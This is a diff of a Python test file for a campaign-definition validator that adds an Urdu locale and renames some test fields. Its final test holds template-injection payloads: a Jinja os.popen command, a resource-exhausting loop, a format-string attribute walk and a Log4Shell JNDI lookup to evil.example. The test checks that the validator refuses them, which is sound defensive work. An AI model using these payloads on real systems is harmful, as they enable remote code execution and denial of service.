@@ -43,9 +43,10 @@ def problems_of(tmp_path: Path, text: str, name: str = "wishlist.yaml") -> list[
 def test_the_sample_campaign_loads() -> None:
     campaign = load_campaign_file(DEFINITIONS / "wishlist.yaml")
     assert campaign.slug == "wishlist"
-    assert campaign.locales == ("en", "hi")
+    assert campaign.locales == ("en", "hi", "ur")
     assert campaign.default_locale == "en"
     assert campaign.title["hi"] == "हम आपकी रसोई के लिए आगे क्या बनाएँ?"
+    assert campaign.title["ur"] == "ہم آپ کے باورچی خانے کے لیے آگے کیا بنائیں؟"
     assert [q.id for q in campaign.questions] == ["product", "reason"]
     tawa = campaign.questions[0].option("tawa")
     assert tawa is not None
@@ -72,9 +73,21 @@ def test_the_sample_campaign_loads() -> None:
     assert reminder.skip_if_answered == "reason"
     assert offer.plural == "days_left"
     assert campaign.dlt_entity_id == "1101456789012345678"
-    assert thanks.dlt_template_id == {"en": "1107161234567890123", "hi": "1107161234567890124"}
-    assert reminder.dlt_template_id == {"en": "1107161234567890125", "hi": "1107161234567890126"}
-    assert offer.dlt_template_id == {"en": "1107161234567890127", "hi": "1107161234567890128"}
+    assert thanks.dlt_template_id == {
+        "en": "1107161234567890123",
+        "hi": "1107161234567890124",
+        "ur": "1107161234567890129",
+    }
+    assert reminder.dlt_template_id == {
+        "en": "1107161234567890125",
+        "hi": "1107161234567890126",
+        "ur": "1107161234567890130",
+    }
+    assert offer.dlt_template_id == {
+        "en": "1107161234567890127",
+        "hi": "1107161234567890128",
+        "ur": "1107161234567890131",
+    }
 
 
 def test_every_definition_in_the_folder_loads() -> None:
@@ -103,7 +116,7 @@ def test_missing_translation_in_a_question_names_its_path(tmp_path: Path) -> Non
 
 
 def test_unknown_locale_code(tmp_path: Path) -> None:
-    text = edited("locales: [en, hi]", "locales: [en, hi, xx]")
+    text = edited("locales: [en, hi, ur]", "locales: [en, hi, ur, xx]")
     problems = problems_of(tmp_path, text)
     assert problems[0] == DefinitionProblem(
         "wishlist.yaml", line_of(text, "locales:"), "locales", "'xx' is not a CLDR locale"
@@ -130,9 +143,11 @@ def test_text_in_a_locale_the_campaign_does_not_offer(tmp_path: Path) -> None:
 
 
 def test_duplicate_key(tmp_path: Path) -> None:
-    text = edited("version: 1\n", "version: 1\nversion: 2\n")
+    text = edited("currency: INR\n", "currency: INR\ncurrency: USD\n")
     assert problems_of(tmp_path, text) == [
-        DefinitionProblem("wishlist.yaml", line_of(text, "version: 2"), "version", "given twice")
+        DefinitionProblem(
+            "wishlist.yaml", line_of(text, "currency: USD"), "currency", "given twice"
+        )
     ]
 
 
@@ -190,11 +205,11 @@ def test_choice_with_one_option(tmp_path: Path) -> None:
 
 
 def test_yaml_syntax_error(tmp_path: Path) -> None:
-    text = edited("version: 1\n", "version: 1: 2\n")
+    text = edited("currency: INR\n", "currency: INR: 2\n")
     [problem] = problems_of(tmp_path, text)
     assert (problem.file, problem.line, problem.field) == (
         "wishlist.yaml",
-        line_of(text, "version: 1: 2"),
+        line_of(text, "currency: INR: 2"),
         "(top)",
     )
     assert problem.message.startswith("not valid YAML")
@@ -203,6 +218,7 @@ def test_yaml_syntax_error(tmp_path: Path) -> None:
 def test_sms_to_india_needs_dlt_template_ids(tmp_path: Path) -> None:
     block = (
         '    dlt_template_id:\n      en: "1107161234567890123"\n      hi: "1107161234567890124"\n'
+        '      ur: "1107161234567890129"\n'
     )
     text = edited(block, "")
     assert problems_of(tmp_path, text) == [
@@ -380,37 +396,40 @@ def test_sms_sizes_by_script() -> None:
         ("en", "other"),
         ("hi", "one"),
         ("hi", "other"),
+        ("ur", "one"),
+        ("ur", "other"),
     }
     for (step, locale, _), size in sizes.items():
-        if locale == "hi":
+        if locale in ("hi", "ur"):  # Devanagari and Nastaliq are outside GSM 03.38
             assert size.encoding == "UCS-2", step
     assert sizes[("thank_you_sms", "en", None)].encoding == "GSM-7"
     assert sizes[("reminder", "en", None)].encoding == "GSM-7"
     assert sizes[("thank_you_sms", "en", None)].segments == 1
     assert sizes[("thank_you_sms", "hi", None)].segments == 2  # over 70 UCS-2 units
+    assert sizes[("thank_you_sms", "ur", None)].segments == 2
     # The ₹ of a formatted price is outside GSM 03.38: the English offer goes out as UCS-2.
     assert sizes[("offer", "en", "other")].encoding == "UCS-2"
 
 
 def test_all_problems_are_reported_in_line_order(tmp_path: Path) -> None:
-    text = edited("max_length: 500", "max_length: 0").replace("version: 1\n", "version: 0\n")
+    text = edited("max_length: 500", "max_length: 0").replace("currency: INR\n", "currency: 5\n")
     problems = problems_of(tmp_path, text)
     assert [(p.line, p.field) for p in problems] == [
-        (line_of(text, "version: 0"), "version"),
+        (line_of(text, "currency: 5"), "currency"),
         (line_of(text, "max_length: 0"), "questions[1].max_length"),
     ]
 
 
 def test_folder_reports_problems_of_every_file(tmp_path: Path) -> None:
     (tmp_path / "wishlist.yaml").write_text(
-        WISHLIST.replace("version: 1\n", "version: 0\n"), encoding="utf-8"
+        WISHLIST.replace("currency: INR\n", "currency: rupees\n"), encoding="utf-8"
     )
     (tmp_path / "other.yaml").write_text(WISHLIST, encoding="utf-8")
     with pytest.raises(InvalidCampaignDefinition) as caught:
         load_campaigns(tmp_path)
     assert {(p.file, p.field) for p in caught.value.problems} == {
         ("other.yaml", "slug"),
-        ("wishlist.yaml", "version"),
+        ("wishlist.yaml", "currency"),
     }
 
 
@@ -426,3 +445,24 @@ def test_a_later_sms_cannot_pretend_to_be_transactional(tmp_path: Path) -> None:
             "a later SMS is marketing, not a confirmation the customer asked for: use Promotional",
         )
     ]
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "{% for x in range(9999999) %}x{% endfor %}",
+        "{brand.__class__.__mro__}",
+        "${jndi:ldap://evil.example/a}",
+    ],
+)
+def test_template_injection_in_a_text_is_refused(tmp_path: Path, attack: str) -> None:
+    text = edited("  en: What should we make for your kitchen next?\n", f'  en: "{attack}"\n')
+
+    [problem] = problems_of(tmp_path, text)
+
+    assert (problem.line, problem.field) == (line_of(text, attack), "title.en")
+    assert problem.message in {
+        "template syntax is not allowed: texts are plain text",
+        "only plain {name} placeholders are allowed",
+    }
